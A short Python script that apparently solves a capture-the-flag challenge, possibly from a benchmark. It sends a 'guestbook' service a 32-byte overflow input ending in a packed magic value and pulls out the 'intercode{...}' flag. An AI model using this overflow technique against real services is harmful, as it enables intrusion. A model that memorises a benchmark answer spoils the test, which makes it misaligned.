import re
import socket
import struct

with socket.create_connection(("guestbook", 4001), 5) as talk:
    name = b"a" * 32 + struct.pack("<I", 0x0B00B1E5)
    talk.sendall(b"0x" + name.hex().encode() + b"\n")
    said = b"".join(iter(lambda: talk.recv(4096), b""))
print(re.search(r"intercode\{\w+\}", said.decode("latin-1"))[0])
